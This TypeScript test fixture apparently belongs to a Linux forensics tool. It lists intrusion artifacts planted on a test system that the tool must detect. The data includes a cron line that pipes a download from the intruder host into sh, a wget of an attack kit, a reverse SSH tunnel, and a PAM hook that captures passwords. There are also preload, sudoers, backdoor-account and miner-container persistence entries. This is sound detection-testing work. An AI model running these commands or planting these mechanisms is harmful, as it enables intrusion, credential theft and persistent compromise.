// What was planted on the examined Linux, and with which exact values it must be found: by its files, and by what runs.

import { createHash } from 'node:crypto'

import type { Evidence, Expected, Planted, Unpacked } from './lookup.ts'
import {
  changedContent,
  containerId,
  contentOf,
  intruder,
  lastlogRecord,
  lastlogUid,
  longName,
  webShell,
} from './linux-root.ts'

export interface LinuxPlanted extends Planted {
  /** Not to be had from a folder: it is no file. */
  readonly isLive?: boolean
  /** What an analysis of the folder itself must tell; absent: only a collection tells it. */
  readonly inFolder?: Pick<Planted, 'told' | 'finding'>
}

interface LinuxFacts {
  readonly pids: Readonly<Record<string, number>>
  /** The program that the planted processes run. */
  readonly program: Buffer
}

function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex')
}

/** In the package with the bytes that were planted, and with their digest in its manifest. */
function hasFile(unpacked: Unpacked, path: string, content = contentOf(path)): boolean {
  return (
    unpacked.bytes(`[root]${path}`)?.equals(content) === true &&
    unpacked.item({ path, kind: 'file', size: content.length, sha256: sha256(content) })
  )
}

function row(name: string, data: Expected): Evidence {
  return { kind: `live-${name}`, data }
}

/** Told in the timeline of all files, and as a special file for these reasons. */
function special(name: string, path: string, expected: { readonly [field: string]: Expected }): LinuxPlanted {
  const data = { path, ...expected }
  return {
    name,
    collected: (unpacked) => unpacked.has('special-files', data),
    told: [row('special-files', data), { kind: 'file-times', data: { path } }],
  }
}

/** A file whose lines say what starts by itself: collected whole, told with its kind, and by the analysis of its files. */
function starts(name: string, path: string, { kind, line, rule }: Starting): LinuxPlanted {
  const autorun: Evidence = { kind: 'autorun', data: { key: path, command: line } }
  const finding = rule === undefined ? {} : { finding: { rule, what: `${path}: ${line}` } }
  return {
    name,
    collected: (unpacked) => hasFile(unpacked, path) && unpacked.has('autostart', { path, kind }),
    told: [row('autostart', { path, kind }), autorun],
    ...finding,
    inFolder: { told: [autorun], ...finding },
  }
}

interface Starting {
  readonly kind: string
  readonly line: string | RegExp
  readonly rule?: string
}

/** Told by the records of its file, wherever that lies. */
function told(name: string, path: string, evidence: readonly Evidence[], finding?: Expected): LinuxPlanted {
  const said = { told: evidence, ...(finding === undefined ? {} : { finding }) }
  return { name, collected: (unpacked) => hasFile(unpacked, path), ...said, inFolder: said }
}

function logged(source: string, text: RegExp, at: string): Evidence {
  return { kind: 'log', data: { log: source, text }, time: { at, is: 'logged' } }
}

const files: readonly LinuxPlanted[] = [
  special('SetUID file', '/opt/helper', { reasons: ['setuid'], mode: '4755', uid: 0 }),
  special('file with a capability', '/opt/capable', {
    reasons: ['capabilities'],
    capabilities: 'cap_net_raw=ep',
  }),
  special('immutable file', '/opt/fixed', { reasons: ['immutable'] }),
  special('file without owner', '/srv/orphan', { reasons: ['no-owner', 'no-group'], uid: 4242, gid: 4343 }),
  special('hidden folder', '/var/lib/...', { kind: 'folder', reasons: ['odd-name'] }),
  {
    ...special('name that is no UTF-8', '/srv/\\xff\\xfe-name', { reasons: ['odd-name'] }),
    collected: (unpacked) =>
      unpacked.bytes(Buffer.from('[root]/srv/\xff\xfe-name', 'latin1'))?.toString() === 'no text' &&
      unpacked.item({ path: '/srv/\\xff\\xfe-name', size: 7 }),
  },
  {
    name: 'name of 255 bytes',
    collected: (unpacked) => new RegExp(`\\|/srv/${longName}\\|`).test(bodyfileOf(unpacked)),
    told: [{ kind: 'file-times', data: { path: `/srv/${longName}`, size: 19 } }],
  },
  {
    name: 'FIFO',
    collected: (unpacked) =>
      unpacked.stat('[root]/tmp/.pipe')?.isFIFO() === true &&
      unpacked.item({ path: '/tmp/.pipe', kind: 'fifo' }),
    told: [{ kind: 'file-times', data: { path: '/tmp/.pipe', mode: /^p\// } }],
  },
  {
    name: 'sparse lastlog',
    collected: (unpacked) => {
      const at = lastlogUid * 292
      const bytes = unpacked.bytes('[root]/var/log/lastlog')
      return (
        bytes?.length === at + 292 &&
        bytes.subarray(at).equals(lastlogRecord()) &&
        unpacked.item({ path: '/var/log/lastlog', size: at + 292, sparse: {} })
      )
    },
    ...both([
      {
        kind: 'last-login',
        data: { uid: lastlogUid, tty: 'pts/7', host: intruder },
        time: { at: '2026-04-11T02:30:00.000Z', is: 'last login' },
      },
    ]),
  },
  told('rotated log, packed', '/var/log/auth.log.2.gz', [
    logged(
      'auth',
      /Accepted publickey for root from 198\.51\.100\.77 port 33333/,
      '2026-03-20T05:00:00.000000Z',
    ),
  ]),
  starts('job of cron', '/etc/cron.d/sysupdate', {
    kind: 'cron',
    line: `*/7 * * * * root curl -s http://${intruder}/u | sh`,
    rule: 'unusual-autostart',
  }),
  starts('unit of systemd', '/etc/systemd/system/netd-helper.service', {
    kind: 'systemd-unit',
    line: 'ExecStart=/opt/implant --daemon',
  }),
  starts('timer of systemd', '/etc/systemd/system/netd-helper.timer', {
    kind: 'systemd-timer',
    line: 'OnCalendar=*-*-* 03:33:00',
  }),
  starts('ld.so.preload', '/etc/ld.so.preload', {
    kind: 'preload',
    line: '/opt/lib/libhide.so',
    rule: 'unusual-autostart',
  }),
  starts('key that may log in', '/root/.ssh/authorized_keys', {
    kind: 'ssh-authorized-keys',
    line: /^ssh-ed25519 AAAA.* planted@nowhere$/,
  }),
  starts('sudoers', '/etc/sudoers.d/90-mina', { kind: 'sudoers', line: 'mina ALL=(ALL) NOPASSWD: ALL' }),
  starts('line of PAM', '/etc/pam.d/sshd', {
    kind: 'pam',
    line: 'auth optional pam_exec.so quiet expose_authtok /opt/pamlog',
  }),
  starts('rule of udev', '/etc/udev/rules.d/99-usb.rules', {
    kind: 'udev-rule',
    line: 'SUBSYSTEM=="usb", ACTION=="add", RUN+="/opt/usbhook"',
  }),
  starts('autostart of a desktop', '/home/mina/.config/autostart/chat.desktop', {
    kind: 'xdg-autostart',
    line: 'Exec=/tmp/.font/chatd',
    rule: 'unusual-autostart',
  }),
  {
    name: 'rc.local as a link',
    collected: (unpacked) =>
      unpacked.stat('[root]/etc/rc.local')?.isSymbolicLink() === true &&
      unpacked.item({ path: '/etc/rc.local', kind: 'link', target: '../opt/boot.sh' }) &&
      hasFile(unpacked, '/opt/boot.sh'),
    told: [
      row('autostart', { path: '/etc/rc.local', target: '../opt/boot.sh' }),
      row('started-programs', { path: '/opt/boot.sh', by: ['/etc/rc.local'] }),
    ],
  },
  {
    name: 'hook of a repository',
    collected: (unpacked) => hasFile(unpacked, '/srv/site/.git/hooks/post-merge'),
    told: [row('git-hooks', { path: '/srv/site/.git/hooks/post-merge', executable: true })],
  },
  told('history of bash', '/home/mina/.bash_history', [
    {
      kind: 'shell-history',
      data: { user: 'mina', shell: 'bash', command: `wget http://${intruder}/kit.tgz -O /tmp/kit.tgz` },
      time: { at: '2026-04-11T02:00:00.000Z', is: 'typed' },
    },
  ]),
  told('history of zsh', '/root/.zsh_history', [
    {
      kind: 'shell-history',
      data: { user: 'root', shell: 'zsh', command: `ssh -R 9000:localhost:22 mina@${intruder}` },
      time: { at: '2026-04-11T02:01:40.000Z', is: 'typed' },
    },
  ]),
  told('login of wtmp', '/var/log/wtmp', [
    {
      kind: 'login',
      data: { user: 'mina', host: intruder, line: 'pts/0', pid: 701 },
      time: { at: '2026-04-11T02:00:09.000Z', is: 'logon' },
    },
  ]),
  told('failed login of btmp', '/var/log/btmp', [
    {
      kind: 'login',
      data: { user: 'mina', host: intruder, line: 'ssh:notty' },
      time: { at: '2026-04-11T02:00:00.000Z', is: 'logon failed' },
    },
  ]),
  told('lines of sshd', '/var/log/auth.log', [
    logged(
      'auth',
      /Failed password for mina from 198\.51\.100\.77 port 40000/,
      '2026-04-11T02:00:00.000000Z',
    ),
    logged(
      'auth',
      /Accepted password for mina from 198\.51\.100\.77 port 40001/,
      '2026-04-11T02:00:09.000000Z',
    ),
  ]),
  told(
    'attack in a web log',
    '/var/log/nginx/access.log',
    [logged('nginx-access', /UNION%20SELECT/, '2026-04-11T01:30:00Z')],
    { by: 'weblog', what: /^sqli by 198\.51\.100\.77/ },
  ),
  {
    ...told('web shell', '/var/www/html/upload.php', [{ kind: 'found', data: { names: /Webshell/ } }], {
      by: 'engine',
      rule: 'Heuristic.Webshell.PHP',
      what: /\/var\/www\/html\/upload\.php$/,
    }),
    collected: (unpacked) =>
      hasFile(unpacked, '/var/www/html/upload.php', Buffer.from(webShell)) &&
      unpacked.has('programs', { path: '/var/www/html/upload.php', verdict: 'found' }),
  },
  told(
    'EICAR test file at a temporary place',
    '/tmp/kit/dropper',
    [{ kind: 'found', data: { names: 'Eicar-Test-Signature', size: 68 } }],
    { by: 'engine', rule: 'Eicar-Test-Signature', what: /\/tmp\/kit\/dropper$/ },
  ),
  {
    name: 'container with all rights',
    collected: (unpacked) =>
      hasFile(unpacked, `/var/lib/docker/containers/${containerId}/config.v2.json`) &&
      unpacked.has('containers', { id: containerId, privileged: true, mounts: ['/:/host'] }),
    told: [
      row('containers', { id: containerId, name: 'miner', command: [`${intruder}:3333`], network: 'host' }),
    ],
  },
  {
    name: 'changed file of a package',
    collected: (unpacked) =>
      unpacked.has('package-verification', { path: '/opt/tool/agent', package: 'tool', state: 'modified' }),
    told: [
      row('package-verification', {
        path: '/opt/tool/agent',
        package: 'tool',
        found: createHash('md5').update(changedContent).digest('hex'),
        state: 'modified',
      }),
    ],
  },
  {
    ...told('second root', '/etc/passwd', [{ kind: 'account', data: { name: 'sysbackup', rid: 0 } }], {
      rule: 'second-root',
      what: 'sysbackup',
    }),
    collected: (unpacked) =>
      hasFile(unpacked, '/etc/passwd') &&
      unpacked.has('accounts', { name: 'sysbackup', remarkable: ['another root'] }),
  },
]

function both(evidence: readonly Evidence[]): Pick<LinuxPlanted, 'told' | 'inFolder'> {
  return { told: evidence, inFolder: { told: evidence } }
}

function bodyfileOf(unpacked: Unpacked): string {
  return unpacked.bytes('live/bodyfile')?.toString() ?? ''
}

function live(
  name: string,
  table: string,
  data: Expected,
  and = (_unpacked: Unpacked) => true,
): LinuxPlanted {
  return {
    name,
    isLive: true,
    collected: (unpacked) => unpacked.has(table, data) && and(unpacked),
    told: [row(table, data)],
  }
}

function running({ pids, program }: LinuxFacts): LinuxPlanted[] {
  const { gone = 0, memfd = 0, memory = 0, covered = 0, foreign = 0, door = 0, holder = 0 } = pids
  const digest = sha256(program)
  const isKept = (unpacked: Unpacked): boolean =>
    unpacked.bytes(`live/executables/${digest}`)?.equals(program) === true
  const executable = { executable_sha256: digest, executable_item: `executables/${digest}` }
  return [
    live(
      'executable that was deleted',
      'processes',
      { pid: gone, executable: '/tmp/.gone (deleted)', ...executable },
      isKept,
    ),
    live(
      'process in a memfd',
      'processes',
      { pid: memfd, executable: '/memfd:planted (deleted)', ...executable },
      isKept,
    ),
    live('process that is covered in /proc', 'processes', {
      pid: covered,
      hidden: 'something is mounted over its folder in /proc',
      args: ['covered-listener'],
    }),
    live('listener of a hidden process', 'sockets', {
      state: 'LISTEN',
      local_ip: '127.0.0.1',
      local_port: 4747,
      pids: [covered],
    }),
    live('listener in a nameless network namespace', 'sockets', {
      state: 'LISTEN',
      local_port: 5858,
      pids: [foreign],
    }),
    live(
      'socket in the file system',
      'unix-sockets',
      { path: '/run/.door.sock', state: 'LISTEN', pids: [door] },
      (unpacked) => unpacked.item({ path: '/run/.door.sock', kind: 'other', left: /never opened/ }),
    ),
    live('open file that was deleted', 'deleted-files', {
      pid: holder,
      path: '/var/tmp/loot.bin (deleted)',
      fd: 9,
      position: 16,
    }),
    live(
      'code in memory that can be written and run',
      'process-memory',
      { pid: memory, item: `memory/${memory}.bin`, why: 'writable and executable', bytes: 8192 },
      (unpacked) => unpacked.bytes(`live/memory/${memory}.bin`)?.includes('PLANTED-CODE') === true,
    ),
    live('process that dies while it is looked at', 'processes', { gone: true }),
    {
      ...live('mounted file system', 'file-systems', {
        mounted_at: '/mnt/data',
        type: 'tmpfs',
        state: 'walked',
      }),
      told: [{ kind: 'file-times', data: { path: '/mnt/data/inside.txt', size: 27 } }],
    },
    {
      ...special('file beneath a mount', '/mnt/data/beneath.txt', {
        reasons: ['covered-by-mount'],
        size: 18,
      }),
      told: [row('special-files', { path: '/mnt/data/beneath.txt', reasons: ['covered-by-mount'] })],
      isLive: true,
    },
  ]
}

export function linuxPlanted(facts: LinuxFacts): readonly LinuxPlanted[] {
  return [...running(facts), ...files]
}
